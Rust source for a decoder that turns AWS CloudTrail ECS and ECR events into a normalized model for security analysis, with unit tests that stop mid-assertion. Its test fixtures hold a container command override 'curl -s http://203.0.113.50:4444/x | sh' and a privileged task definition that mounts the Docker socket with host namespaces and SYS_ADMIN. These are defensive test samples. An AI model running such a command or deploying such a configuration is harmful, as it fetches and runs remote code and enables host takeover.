//! AWS CloudTrail events for Amazon ECS (and the ECR calls that show where images come
//! from).
//!
//! Three shapes reach the decoder:
//!
//! - a trail's log file, `{"Records": [...]}`: one record, many events. Each element is
//!   decoded on its own and keeps its own text as the raw JSON that raw-field rules read;
//! - one event per line, as CloudTrail Lake, Event history exports and most shippers
//!   write them;
//! - an EventBridge event, `{"detail-type": "AWS API Call via CloudTrail", "source":
//!   "aws.ecs", "account", "region", "time", "detail": {<the event>}}`; the raw JSON is
//!   the `detail`.
//!
//! What an ECS call means for containers is in its `requestParameters` and
//! `responseElements`, read as raw JSON first and decoded into typed structs only for the
//! calls that carry containers:
//!
//! - `RegisterTaskDefinition` is the launch specification: a `WorkloadCreate` of a
//!   `TaskDefinition` named by its family, one container per `containerDefinitions[]`
//!   (image, `entryPoint` as the entrypoint override, `command`, `user`, `privileged`,
//!   `linuxParameters.capabilities.add`, `linuxParameters.devices`, the
//!   `dockerSecurityOptions`) and host paths from `mountPoints[]` joined with
//!   `volumes[].host.sourcePath`. The task-level `networkMode`, `pidMode` and `ipcMode`
//!   `host` are copied onto every container.
//! - `RunTask` and `StartTask` start containers: `ContainerStart` of a `Task`, the
//!   containers from `responseElements.tasks[].containers[]`, each with the run-time
//!   command override of `overrides.containerOverrides[]` of the same name.
//! - `CreateService`, `UpdateService`, `DeleteService`, `DeregisterTaskDefinition`,
//!   `ExecuteCommand`, `StopTask`, and `List*`/`Describe*` (discovery) map onto the
//!   matching actions. Other calls are `Other`.
//!
//! Not read, for want of a place in the model: `overrides.taskRoleArn` and `taskRoleArn`
//! (the role a task runs with), `readonlyRootFilesystem`, the container `restartPolicy`
//! (ECS has no policy names, only `enabled`), environment overrides, and `errorMessage`.

use std::borrow::Cow;

use serde::Deserialize;
use serde_json::value::RawValue;

use crate::decode::{DecodeError, Decoded, Decoder, Detect, Format, Keys};
use crate::model::ImageRef;
use crate::model::{
    Action, Container, Event, HostMount, Principal, SecurityContext, Source, Workload,
};
use crate::normalize::borrowed::{Str, non_empty, strings};
use crate::normalize::process;
use crate::normalize::security::{capabilities, security_opts};
use crate::time::parse_rfc3339_ns;

pub(crate) const FORMAT: Format = Format {
    source: Source::CloudTrail,
    logsource: ("aws", "cloudtrail"),
    about: "AWS CloudTrail (ECS, ECR)",
    detect: Detect {
        // A trail file (`Records`), an EventBridge event (`detail-type`) or one event.
        json: &[
            Keys::all(&["\"eventSource\":"]),
            Keys::all(&["\"Records\":"]),
            Keys::all(&["\"detail-type\":"]),
        ],
        text: None,
    },
    raw_roots: &[
        "eventVersion",
        "userIdentity",
        "eventTime",
        "eventSource",
        "eventName",
        "awsRegion",
        "sourceIPAddress",
        "userAgent",
        "requestParameters",
        "responseElements",
        "errorCode",
        "errorMessage",
        "requestID",
        "eventID",
        "readOnly",
        "eventType",
        "managementEvent",
        "recipientAccountId",
        "eventCategory",
        "tlsDetails",
        "additionalEventData",
        "resources",
    ],
    decode: Decoder::Many(decode),
};

/// One CloudTrail event; the same struct reads the trail file's wrapper (`Records`) and
/// the EventBridge one (`detail-type`, `detail`), whose keys no event has.
#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawEvent<'a> {
    #[serde(rename = "Records", borrow)]
    records: Option<Vec<&'a RawValue>>,
    #[serde(rename = "detail-type", borrow)]
    detail_type: Option<Str<'a>>,
    #[serde(borrow)]
    detail: Option<&'a RawValue>,
    /// EventBridge's account, when the detail's own is missing.
    #[serde(borrow)]
    account: Option<Str<'a>>,

    #[serde(borrow)]
    event_time: Option<Str<'a>>,
    #[serde(borrow)]
    event_source: Option<Str<'a>>,
    #[serde(borrow)]
    event_name: Option<Str<'a>>,
    #[serde(borrow)]
    aws_region: Option<Str<'a>>,
    #[serde(rename = "sourceIPAddress", borrow)]
    source_ip_address: Option<Str<'a>>,
    #[serde(borrow)]
    user_agent: Option<Str<'a>>,
    #[serde(borrow)]
    user_identity: Option<RawIdentity<'a>>,
    #[serde(borrow)]
    request_parameters: Option<&'a RawValue>,
    #[serde(borrow)]
    response_elements: Option<&'a RawValue>,
    #[serde(borrow)]
    error_code: Option<Str<'a>>,
    #[serde(rename = "eventID", borrow)]
    event_id: Option<Str<'a>>,
    #[serde(borrow)]
    recipient_account_id: Option<Str<'a>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawIdentity<'a> {
    /// `Root`, `IAMUser`, `AssumedRole`, `FederatedUser`, `AWSService`, ...
    #[serde(rename = "type", borrow)]
    kind: Option<Str<'a>>,
    #[serde(borrow)]
    principal_id: Option<Str<'a>>,
    #[serde(borrow)]
    arn: Option<Str<'a>>,
    #[serde(borrow)]
    account_id: Option<Str<'a>>,
    #[serde(borrow)]
    user_name: Option<Str<'a>>,
    /// The service that called on the principal's behalf (`ecs.amazonaws.com`).
    #[serde(borrow)]
    invoked_by: Option<Str<'a>>,
    #[serde(borrow)]
    session_context: Option<RawSessionContext<'a>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawSessionContext<'a> {
    #[serde(borrow)]
    session_issuer: Option<RawSessionIssuer<'a>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawSessionIssuer<'a> {
    #[serde(borrow)]
    arn: Option<Str<'a>>,
}

/// The request parameters of the ECS calls read here. Their top-level names do not
/// collide across calls, so one struct serves them all.
#[derive(Default, Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawEcsRequest<'a> {
    #[serde(borrow)]
    cluster: Option<Str<'a>>,
    // RegisterTaskDefinition
    #[serde(borrow)]
    family: Option<Str<'a>>,
    #[serde(borrow)]
    network_mode: Option<Str<'a>>,
    #[serde(borrow)]
    pid_mode: Option<Str<'a>>,
    #[serde(borrow)]
    ipc_mode: Option<Str<'a>>,
    #[serde(borrow)]
    volumes: Option<Vec<RawVolume<'a>>>,
    #[serde(borrow)]
    container_definitions: Option<Vec<RawContainerDefinition<'a>>>,
    // RunTask, StartTask, CreateService, UpdateService, DeregisterTaskDefinition
    #[serde(borrow)]
    task_definition: Option<Str<'a>>,
    #[serde(borrow)]
    overrides: Option<RawOverrides<'a>>,
    // CreateService, UpdateService, DeleteService
    #[serde(borrow)]
    service_name: Option<Str<'a>>,
    #[serde(borrow)]
    service: Option<Str<'a>>,
    // ExecuteCommand, StopTask
    #[serde(borrow)]
    task: Option<Str<'a>>,
    #[serde(borrow)]
    container: Option<Str<'a>>,
    /// ExecuteCommand: one string, as typed after `--command`.
    #[serde(borrow)]
    command: Option<Str<'a>>,
    /// StopTask.
    #[serde(borrow)]
    reason: Option<Str<'a>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawVolume<'a> {
    #[serde(borrow)]
    name: Option<Str<'a>>,
    #[serde(borrow)]
    host: Option<RawVolumeHost<'a>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawVolumeHost<'a> {
    /// Absent for a Docker-managed volume.
    #[serde(borrow)]
    source_path: Option<Str<'a>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawContainerDefinition<'a> {
    #[serde(borrow)]
    name: Option<Str<'a>>,
    #[serde(borrow)]
    image: Option<Str<'a>>,
    #[serde(borrow)]
    entry_point: Option<Vec<Str<'a>>>,
    #[serde(borrow)]
    command: Option<Vec<Str<'a>>>,
    #[serde(borrow)]
    user: Option<Str<'a>>,
    privileged: Option<bool>,
    #[serde(borrow)]
    mount_points: Option<Vec<RawMountPoint<'a>>>,
    #[serde(borrow)]
    linux_parameters: Option<RawLinuxParameters<'a>>,
    /// `no-new-privileges`, `apparmor:PROFILE`, `label:...`, `credentialspec:...`.
    #[serde(borrow)]
    docker_security_options: Option<Vec<Str<'a>>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawMountPoint<'a> {
    #[serde(borrow)]
    source_volume: Option<Str<'a>>,
    #[serde(borrow)]
    container_path: Option<Str<'a>>,
    read_only: Option<bool>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawLinuxParameters<'a> {
    #[serde(borrow)]
    capabilities: Option<RawCapabilities<'a>>,
    #[serde(borrow)]
    devices: Option<Vec<RawDevice<'a>>>,
}

#[derive(Deserialize)]
struct RawCapabilities<'a> {
    #[serde(borrow)]
    add: Option<Vec<Str<'a>>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawDevice<'a> {
    #[serde(borrow)]
    host_path: Option<Str<'a>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawOverrides<'a> {
    #[serde(borrow)]
    container_overrides: Option<Vec<RawContainerOverride<'a>>>,
}

#[derive(Deserialize)]
struct RawContainerOverride<'a> {
    #[serde(borrow)]
    name: Option<Str<'a>>,
    #[serde(borrow)]
    command: Option<Vec<Str<'a>>>,
}

/// The response elements of the ECS calls read here.
#[derive(Default, Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawEcsResponse<'a> {
    /// RegisterTaskDefinition.
    #[serde(borrow)]
    task_definition: Option<RawTaskDefinitionRef<'a>>,
    /// RunTask, StartTask.
    #[serde(borrow)]
    tasks: Option<Vec<RawTask<'a>>>,
    /// StopTask.
    #[serde(borrow)]
    task: Option<RawTask<'a>>,
    /// CreateService, UpdateService, DeleteService.
    #[serde(borrow)]
    service: Option<RawService<'a>>,
    /// ExecuteCommand.
    #[serde(borrow)]
    task_arn: Option<Str<'a>>,
    #[serde(borrow)]
    container_arn: Option<Str<'a>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawTaskDefinitionRef<'a> {
    #[serde(borrow)]
    task_definition_arn: Option<Str<'a>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawTask<'a> {
    #[serde(borrow)]
    task_arn: Option<Str<'a>>,
    #[serde(borrow)]
    containers: Option<Vec<RawTaskContainer<'a>>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawTaskContainer<'a> {
    #[serde(borrow)]
    name: Option<Str<'a>>,
    #[serde(borrow)]
    image: Option<Str<'a>>,
    #[serde(borrow)]
    container_arn: Option<Str<'a>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawService<'a> {
    #[serde(borrow)]
    service_arn: Option<Str<'a>>,
}

/// ECR's `BatchGetImage` and `PutImage` parameters.
#[derive(Default, Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawEcrRequest<'a> {
    #[serde(borrow)]
    registry_id: Option<Str<'a>>,
    #[serde(borrow)]
    repository_name: Option<Str<'a>>,
    #[serde(borrow)]
    image_ids: Option<Vec<RawImageId<'a>>>,
    /// PutImage.
    #[serde(borrow)]
    image_tag: Option<Str<'a>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawImageId<'a> {
    #[serde(borrow)]
    image_tag: Option<Str<'a>>,
    #[serde(borrow)]
    image_digest: Option<Str<'a>>,
}

/// The `detail-type` EventBridge gives CloudTrail events.
const API_CALL: &str = "AWS API Call via CloudTrail";

fn decode(text: &str) -> Result<Vec<Decoded<'_>>, DecodeError> {
    let top: RawEvent<'_> =
        serde_json::from_str(text).map_err(|e| DecodeError::from_json(Source::CloudTrail, e))?;
    if let Some(records) = top.records {
        return records
            .into_iter()
            .map(|element| {
                let raw: RawEvent<'_> = serde_json::from_str(element.get()).map_err(|e| {
                    DecodeError::nested(text, element, "Records", Source::CloudTrail, e)
                })?;
                let mut decoded = normalize(text, raw, None)?;
                decoded.raw = Some(Cow::Borrowed(element.get()));
                Ok(decoded)
            })
            .collect();
    }
    if let Some(detail) = top.detail {
        let kind = top.detail_type.as_ref().map(|t| &*t.0);
        if kind != Some(API_CALL) {
            return Err(DecodeError::shape(
                Source::CloudTrail,
                1,
                format!("EventBridge `detail-type` {kind:?} is not {API_CALL:?}"),
            ));
        }
        let raw: RawEvent<'_> = serde_json::from_str(detail.get())
            .map_err(|e| DecodeError::nested(text, detail, "detail", Source::CloudTrail, e))?;
        let mut decoded = normalize(text, raw, non_empty(top.account))?;
        decoded.raw = Some(Cow::Borrowed(detail.get()));
        return Ok(vec![decoded]);
    }
    Ok(vec![normalize(text, top, None)?])
}

/// What the call did, and to what kind of object.
fn classify(service: &str, name: &str) -> (Action, Option<&'static str>) {
    match (service, name) {
        ("ecs", "RegisterTaskDefinition") => (Action::WorkloadCreate, Some("TaskDefinition")),
        ("ecs", "DeregisterTaskDefinition" | "DeleteTaskDefinitions") => {
            (Action::WorkloadDelete, Some("TaskDefinition"))
        }
        ("ecs", "RunTask" | "StartTask") => (Action::ContainerStart, Some("Task")),
        ("ecs", "StopTask") => (Action::ContainerStop, Some("Task")),
        ("ecs", "ExecuteCommand") => (Action::ContainerExec, Some("Task")),
        ("ecs", "CreateService") => (Action::WorkloadCreate, Some("Service")),
        ("ecs", "UpdateService") => (Action::WorkloadUpdate, Some("Service")),
        ("ecs", "DeleteService") => (Action::WorkloadDelete, Some("Service")),
        ("ecs", n) if n.starts_with("List") || n.starts_with("Describe") => {
            (Action::ResourceList, None)
        }
        ("ecr", "BatchGetImage") => (Action::ImagePull, None),
        _ => (Action::Other, None),
    }
}

fn normalize<'a>(
    text: &'a str,
    raw: RawEvent<'a>,
    fallback_account: Option<Cow<'a, str>>,
) -> Result<Decoded<'a>, DecodeError> {
    let name = raw
        .event_name
        .map(|n| n.0)
        .ok_or_else(|| DecodeError::shape(Source::CloudTrail, 1, "missing field `eventName`"))?;
    let source = raw
        .event_source
        .map(|s| s.0)
        .ok_or_else(|| DecodeError::shape(Source::CloudTrail, 1, "missing field `eventSource`"))?;
    let service = source.strip_suffix(".amazonaws.com").unwrap_or(&source);
    let (action, kind) = classify(service, &name);
    let is_ecs = service == "ecs";
    let is_ecr = service == "ecr";

    let region = non_empty(raw.aws_region);
    let identity_account = raw
        .user_identity
        .as_ref()
        .and_then(|u| u.account_id.as_ref())
        .map(|a| a.0.clone())
        .filter(|a| !a.is_empty());
    let account = non_empty(raw.recipient_account_id)
        .or(identity_account)
        .or(fallback_account);

    let mut event = Event::new(Source::CloudTrail, action, name);
    event.time_ns = raw.event_time.as_ref().and_then(|t| parse_rfc3339_ns(&t.0));
    event.request_id = non_empty(raw.event_id);
    event.error = non_empty(raw.error_code);
    event.principal = principal(raw.user_identity, raw.source_ip_address, raw.user_agent);

    if is_ecs {
        let mut request: RawEcsRequest<'a> =
            parse_body(text, raw.request_parameters, "requestParameters")?;
        let response: RawEcsResponse<'a> =
            parse_body(text, raw.response_elements, "responseElements")?;
        event.cluster = non_empty(request.cluster.take()).map(last_segment);
        if let Some(kind) = kind {
            ecs_containers(&mut event, kind, request, response);
        }
    } else if is_ecr && matches!(&*event.raw_action, "BatchGetImage" | "PutImage") {
        let request: RawEcrRequest<'a> =
            parse_body(text, raw.request_parameters, "requestParameters")?;
        ecr_images(&mut event, request, account.as_deref(), region.as_deref());
    }
    event.account = account;
    event.region = region;
    Ok(Decoded::evaluated(event))
}

/// Fill the workload and containers of an ECS call on a task definition, task or service.
fn ecs_containers<'a>(
    event: &mut Event<'a>,
    kind: &'static str,
    request: RawEcsRequest<'a>,
    response: RawEcsResponse<'a>,
) {
    let mut workload = Workload {
        kind: Cow::Borrowed(kind),
        ..Workload::default()
    };
    match kind {
        "TaskDefinition" => {
            workload.name = non_empty(request.family)
                .or_else(|| non_empty(request.task_definition).map(last_segment));
            workload.uid = response
                .task_definition
                .and_then(|t| non_empty(t.task_definition_arn));
            event.containers = task_definition_containers(
                request.container_definitions.unwrap_or_default(),
                request.volumes.unwrap_or_default(),
                [request.network_mode, request.pid_mode, request.ipc_mode].map(host_mode),
            );
        }
        "Service" => {
            workload.name = non_empty(request.service_name)
                .or_else(|| non_empty(request.service).map(last_segment));
            workload.uid = response.service.and_then(|s| non_empty(s.service_arn));
            workload.owner = non_empty(request.task_definition).map(|t| owner("TaskDefinition", t));
        }
        _ => {
            let tasks: Vec<RawTask<'a>> = match (response.tasks, response.task) {
                (Some(tasks), _) => tasks,
                (None, Some(task)) => vec![task],
                (None, None) => Vec::new(),
            };
            let first_arn = tasks
                .first()
                .and_then(|t| t.task_arn.as_ref())
                .map(|a| a.0.clone())
                .or_else(|| non_empty(response.task_arn))
                .filter(|a| !a.is_empty());
            let named = non_empty(request.task);
            workload.name = named
                .clone()
                .or_else(|| first_arn.clone())
                .map(last_segment);
            workload.uid = first_arn.or(named.filter(|t| t.starts_with("arn:")));
            workload.owner = non_empty(request.task_definition).map(|t| owner("TaskDefinition", t));

            let mut overrides: Vec<RawContainerOverride<'a>> = request
                .overrides
                .and_then(|o| o.container_overrides)
                .unwrap_or_default();
            for task in tasks {
                for c in task.containers.into_iter().flatten() {
                    let name = non_empty(c.name);
                    let command = take_override(&mut overrides, name.as_deref());
                    event.containers.push(Container {
                        id: non_empty(c.container_arn),
                        name,
                        image: non_empty(c.image).map(ImageRef::lenient),
                        security: SecurityContext {
                            command,
                            ..SecurityContext::default()
                        },
                        ..Container::default()
                    });
                }
            }
            // Overrides for containers the response did not list (a failed call, or a
            // trimmed record): the command override is still what was asked for.
            for o in overrides {
                let command = o.command.map(strings);
                if command.is_some() {
                    event.containers.push(Container {
                        name: non_empty(o.name),
                        security: SecurityContext {
                            command,
                            ..SecurityContext::default()
                        },
                        ..Container::default()
                    });
                }
            }
            if event.action == Action::ContainerExec {
                let container = non_empty(request.container);
                event.containers.push(Container {
                    id: non_empty(response.container_arn),
                    name: container,
                    ..Container::default()
                });
                event.process = non_empty(request.command).and_then(process::from_line);
            }
            if event.action == Action::ContainerStop {
                event.reason = non_empty(request.reason);
            }
        }
    }
    event.workload = Some(workload);
}

/// The command override of the container named `name`, removed from the list.
fn take_override<'a>(
    overrides: &mut Vec<RawContainerOverride<'a>>,
    name: Option<&str>,
) -> Option<Vec<Cow<'a, str>>> {
    let name = name?;
    let at = overrides
        .iter()
        .position(|o| o.name.as_ref().is_some_and(|n| n.0 == name))?;
    overrides.remove(at).command.map(strings)
}

/// `Some(true)` for `host`, `Some(false)` for any other mode, `None` when not given.
fn host_mode(mode: Option<Str<'_>>) -> Option<bool> {
    non_empty(mode).map(|m| m == "host")
}

fn task_definition_containers<'a>(
    definitions: Vec<RawContainerDefinition<'a>>,
    volumes: Vec<RawVolume<'a>>,
    [host_network, host_pid, host_ipc]: [Option<bool>; 3],
) -> Vec<Container<'a>> {
    let host_paths: Vec<(Cow<'a, str>, Cow<'a, str>)> = volumes
        .into_iter()
        .filter_map(|v| {
            let path = non_empty(v.host.and_then(|h| h.source_path))?;
            Some((non_empty(v.name)?, path))
        })
        .collect();
    definitions
        .into_iter()
        .map(|d| {
            let host_mounts = d
                .mount_points
                .into_iter()
                .flatten()
                .filter_map(|m| {
                    let volume = m.source_volume?;
                    let (_, host_path) = host_paths.iter().find(|(name, _)| *name == volume.0)?;
                    Some(HostMount {
                        host_path: host_path.clone(),
                        container_path: non_empty(m.container_path),
                        read_only: m.read_only.unwrap_or(false),
                    })
                })
                .collect();
            let (cap_add, devices) = match d.linux_parameters {
                Some(p) => (
                    capabilities(
                        p.capabilities
                            .and_then(|c| c.add)
                            .into_iter()
                            .flatten()
                            .map(|c| c.0),
                    ),
                    p.devices
                        .into_iter()
                        .flatten()
                        .filter_map(|d| non_empty(d.host_path))
                        .collect(),
                ),
                None => (Vec::new(), Vec::new()),
            };
            Container {
                id: None,
                name: non_empty(d.name),
                image: non_empty(d.image).map(ImageRef::lenient),
                role: Default::default(),
                security: SecurityContext {
                    privileged: d.privileged,
                    host_pid,
                    host_network,
                    host_ipc,
                    cap_add,
                    security_opt: security_opts(
                        d.docker_security_options.into_iter().flatten().map(|o| o.0),
                    ),
                    devices,
                    host_mounts,
                    user: non_empty(d.user),
                    restart_policy: None,
                    entrypoint: d.entry_point.map(strings),
                    command: d.command.map(strings),
                },
            }
        })
        .collect()
}

/// An ECR image id: its tag and its digest, either of which may be missing.
type TagAndDigest<'a> = (Option<Cow<'a, str>>, Option<Cow<'a, str>>);

/// The image an ECR call names, as a pull would write it:
/// `<registry id>.dkr.ecr.<region>.amazonaws.com/<repository>[:tag][@digest]`.
fn ecr_images<'a>(
    event: &mut Event<'a>,
    request: RawEcrRequest<'a>,
    account: Option<&str>,
    region: Option<&str>,
) {
    let Some(repository) = non_empty(request.repository_name) else {
        return;
    };
    let registry_id = non_empty(request.registry_id);
    let host = match (registry_id.as_deref().or(account), region) {
        (Some(id), Some(region)) => format!("{id}.dkr.ecr.{region}.amazonaws.com/"),
        _ => String::new(),
    };
    let mut ids: Vec<TagAndDigest<'a>> = request
        .image_ids
        .into_iter()
        .flatten()
        .map(|i| (non_empty(i.image_tag), non_empty(i.image_digest)))
        .collect();
    if ids.is_empty() {
        ids.push((non_empty(request.image_tag), None));
    }
    for (tag, digest) in ids {
        let mut reference = format!("{host}{repository}");
        if let Some(tag) = tag {
            reference.push(':');
            reference.push_str(&tag);
        }
        if let Some(digest) = digest {
            reference.push('@');
            reference.push_str(&digest);
        }
        event.containers.push(Container {
            image: Some(ImageRef::lenient(Cow::Owned(reference))),
            ..Container::default()
        });
    }
}

fn principal<'a>(
    identity: Option<RawIdentity<'a>>,
    source_ip: Option<Str<'a>>,
    user_agent: Option<Str<'a>>,
) -> Option<Principal<'a>> {
    let source_ip = non_empty(source_ip);
    let user_agent = non_empty(user_agent);
    let Some(identity) = identity else {
        return (source_ip.is_some() || user_agent.is_some()).then(|| Principal {
            source_ip,
            user_agent,
            ..Principal::default()
        });
    };
    let issuer = identity
        .session_context
        .and_then(|s| s.session_issuer)
        .and_then(|i| non_empty(i.arn));
    let uid = non_empty(identity.principal_id);
    let name = non_empty(identity.arn)
        .or_else(|| non_empty(identity.user_name))
        .or(issuer)
        .or_else(|| non_empty(identity.invoked_by))
        .or_else(|| uid.clone())
        .unwrap_or_default();
    Some(Principal {
        name,
        uid,
        groups: Vec::new(),
        kind: non_empty(identity.kind),
        source_ip,
        user_agent,
    })
}

/// `family:revision` or `name` of an ARN (`arn:aws:ecs:...:task-definition/web:3`).
fn last_segment(s: Cow<'_, str>) -> Cow<'_, str> {
    if !s.starts_with("arn:") {
        return s;
    }
    match s {
        Cow::Borrowed(b) => Cow::Borrowed(b.rsplit('/').next().unwrap_or(b)),
        Cow::Owned(o) => Cow::Owned(o.rsplit('/').next().unwrap_or(&o).to_owned()),
    }
}

fn owner(kind: &str, name: Cow<'_, str>) -> Cow<'static, str> {
    Cow::Owned(format!("{kind}/{}", last_segment(name)))
}

/// Decode a body (`requestParameters`, `responseElements`); absent or `null` gives the
/// default.
fn parse_body<'a, T: Deserialize<'a> + Default>(
    text: &str,
    body: Option<&'a RawValue>,
    field: &str,
) -> Result<T, DecodeError> {
    match body {
        Some(body) if body.get() != "null" => serde_json::from_str(body.get())
            .map_err(|e| DecodeError::nested(text, body, field, Source::CloudTrail, e)),
        _ => Ok(T::default()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const REGISTER: &str = r#"{"eventVersion":"1.08","userIdentity":{"type":"AssumedRole","principalId":"AROAEXAMPLEID:mallory","arn":"arn:aws:sts::111122223333:assumed-role/ci-deployer/mallory","accountId":"111122223333","accessKeyId":"ASIAEXAMPLEKEY","sessionContext":{"sessionIssuer":{"type":"Role","principalId":"AROAEXAMPLEID","arn":"arn:aws:iam::111122223333:role/ci-deployer","accountId":"111122223333","userName":"ci-deployer"},"attributes":{"creationDate":"2024-05-14T09:10:00Z","mfaAuthenticated":"false"}}},"eventTime":"2024-05-14T09:20:11Z","eventSource":"ecs.amazonaws.com","eventName":"RegisterTaskDefinition","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.23","userAgent":"aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0 exe/x86_64.ubuntu.22 prompt/off command/ecs.register-task-definition","requestParameters":{"family":"node-agent","networkMode":"host","pidMode":"host","volumes":[{"name":"docker-sock","host":{"sourcePath":"/var/run/docker.sock"}},{"name":"scratch","host":{}}],"containerDefinitions":[{"name":"agent","image":"registry.example.com:5000/ops/node-agent:2.1","entryPoint":["/bin/sh","-c"],"command":["exec /usr/local/bin/node-agent"],"user":"0","privileged":true,"essential":true,"mountPoints":[{"sourceVolume":"docker-sock","containerPath":"/var/run/docker.sock","readOnly":false},{"sourceVolume":"scratch","containerPath":"/scratch"}],"linuxParameters":{"capabilities":{"add":["SYS_ADMIN","cap_net_raw"]},"devices":[{"hostPath":"/dev/kmsg","containerPath":"/dev/kmsg"}]},"dockerSecurityOptions":["apparmor:unconfined","no-new-privileges"]}],"requiresCompatibilities":["EC2"]},"responseElements":{"taskDefinition":{"taskDefinitionArn":"arn:aws:ecs:us-east-1:111122223333:task-definition/node-agent:1","family":"node-agent","revision":1,"status":"ACTIVE"}},"requestID":"6b8e3d1c-9a4f-4e21-8d3b-2f1a0c9e7d65","eventID":"0f3c2b1a-8e7d-4c6b-9a5f-4e3d2c1b0a99","readOnly":false,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"111122223333","eventCategory":"Management"}"#;

    fn one(text: &str) -> Decoded<'_> {
        let mut events = decode(text).unwrap();
        assert_eq!(events.len(), 1);
        events.remove(0)
    }

    #[test]
    fn a_privileged_task_definition() {
        assert_eq!(crate::decode::detect(REGISTER), Some(Source::CloudTrail));
        let d = one(REGISTER);
        assert!(d.evaluate);
        assert!(d.raw.is_none());
        let e = d.event;
        assert_eq!(e.action, Action::WorkloadCreate);
        assert_eq!(e.raw_action, "RegisterTaskDefinition");
        assert_eq!(e.time_ns, Some(1_715_678_411_000_000_000));
        assert_eq!(e.account.as_deref(), Some("111122223333"));
        assert_eq!(e.region.as_deref(), Some("us-east-1"));
        assert_eq!(
            e.request_id.as_deref(),
            Some("0f3c2b1a-8e7d-4c6b-9a5f-4e3d2c1b0a99")
        );
        let p = e.principal.as_ref().unwrap();
        assert_eq!(
            p.name,
            "arn:aws:sts::111122223333:assumed-role/ci-deployer/mallory"
        );
        assert_eq!(p.kind.as_deref(), Some("AssumedRole"));
        assert_eq!(p.source_ip.as_deref(), Some("198.51.100.23"));
        let w = e.workload.as_ref().unwrap();
        assert_eq!(
            (&*w.kind, w.name.as_deref()),
            ("TaskDefinition", Some("node-agent"))
        );
        assert_eq!(
            w.uid.as_deref(),
            Some("arn:aws:ecs:us-east-1:111122223333:task-definition/node-agent:1")
        );
        let c = &e.containers[0];
        assert_eq!(c.name.as_deref(), Some("agent"));
        assert_eq!(
            c.image.as_ref().unwrap().registry,
            "registry.example.com:5000"
        );
        let s = &c.security;
        assert_eq!(s.privileged, Some(true));
        assert_eq!(
            (s.host_network, s.host_pid, s.host_ipc),
            (Some(true), Some(true), None)
        );
        assert_eq!(s.cap_add, ["SYS_ADMIN", "NET_RAW"]);
        assert_eq!(s.devices, ["/dev/kmsg"]);
        assert_eq!(s.security_opt, ["apparmor=unconfined", "no-new-privileges"]);
        assert_eq!(s.user.as_deref(), Some("0"));
        assert_eq!(
            s.entrypoint.as_deref(),
            Some(&["/bin/sh".into(), "-c".into()][..])
        );
        assert_eq!(
            s.command.as_deref(),
            Some(&["exec /usr/local/bin/node-agent".into()][..])
        );
        assert_eq!(
            s.host_mounts,
            [HostMount {
                host_path: "/var/run/docker.sock".into(),
                container_path: Some("/var/run/docker.sock".into()),
                read_only: false,
            }]
        );
    }

    #[test]
    fn a_trail_file_gives_one_event_per_record_with_its_own_raw_text() {
        let run = r#"{"eventTime":"2024-05-14T09:21:40Z","eventSource":"ecs.amazonaws.com","eventName":"RunTask","awsRegion":"us-east-1","userIdentity":{"type":"IAMUser","principalId":"AIDAEXAMPLE","arn":"arn:aws:iam::111122223333:user/mallory","accountId":"111122223333","userName":"mallory"},"requestParameters":{"cluster":"arn:aws:ecs:us-east-1:111122223333:cluster/prod-ecs","taskDefinition":"web:7","count":1,"overrides":{"containerOverrides":[{"name":"web","command":["sh","-c","curl -s http://203.0.113.50:4444/x | sh"]},{"name":"ghost","command":["true"]}]}},"responseElements":{"tasks":[{"taskArn":"arn:aws:ecs:us-east-1:111122223333:task/prod-ecs/0a1b2c3d4e5f4a6b8c9d0e1f2a3b4c5d","containers":[{"containerArn":"arn:aws:ecs:us-east-1:111122223333:container/prod-ecs/0a1b2c3d4e5f4a6b8c9d0e1f2a3b4c5d/4f1e2d3c-0000-4000-8000-000000000001","name":"web","image":"nginx:1.25.3"},{"containerArn":"arn:aws:ecs:us-east-1:111122223333:container/prod-ecs/0a1b2c3d4e5f4a6b8c9d0e1f2a3b4c5d/4f1e2d3c-0000-4000-8000-000000000002","name":"log-router","image":"amazon/aws-for-fluent-bit:2.32.0"}]}],"failures":[]},"eventID":"e1","recipientAccountId":"111122223333"}"#;
        let list = r#"{"eventTime":"2024-05-14T09:22:00Z","eventSource":"ecs.amazonaws.com","eventName":"ListTasks","awsRegion":"us-east-1","requestParameters":{"cluster":"prod-ecs"},"responseElements":null,"eventID":"e2","readOnly":true}"#;
        let file = format!(r#"{{"Records":[{run},{list}]}}"#);
        assert_eq!(crate::decode::detect(&file), Some(Source::CloudTrail));
        let events = decode(&file).unwrap();
        assert_eq!(events.len(), 2);
        assert_eq!(events[0].raw.as_deref(), Some(run));
        assert_eq!(events[1].raw.as_deref(), Some(list));

        let e = &events[0].event;
        assert_eq!(e.action, Action::ContainerStart);
        assert_eq!(e.cluster.as_deref(), Some("prod-ecs"));
        let w = e.workload.as_ref().unwrap();
        assert_eq!(w.kind, "Task");
        assert_eq!(w.name.as_deref(), Some("0a1b2c3d4e5f4a6b8c9d0e1f2a3b4c5d"));
        assert_eq!(w.owner.as_deref(), Some("TaskDefinition/web:7"));
        let names: Vec<_> = e.containers.iter().map(|c| c.name.as_deref()).collect();
        assert_eq!(names, [Some("web"), Some("log-router"), Some("ghost")]);
        assert_eq!(
